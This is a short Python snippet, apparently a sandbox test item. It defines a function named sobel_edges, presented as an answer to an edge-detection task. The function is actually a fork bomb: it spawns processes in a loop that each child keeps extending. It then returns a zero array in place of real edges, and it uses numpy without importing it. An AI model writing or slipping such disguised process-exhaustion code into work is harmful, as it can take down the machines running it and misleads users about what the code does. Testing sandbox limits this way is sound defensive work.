"""Forks for ever in a call, and each child does the same.

says: entries are off|too many processes|was stopped|BlockingIOError
alone: left
"""
# %% answer sobel_edges
import os
import time

def sobel_edges(image):
    end = time.monotonic() + 0.3
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                end += 60
        except OSError:
            time.sleep(0.01)
    return np.zeros((image.shape[0] - 2, image.shape[1] - 2))
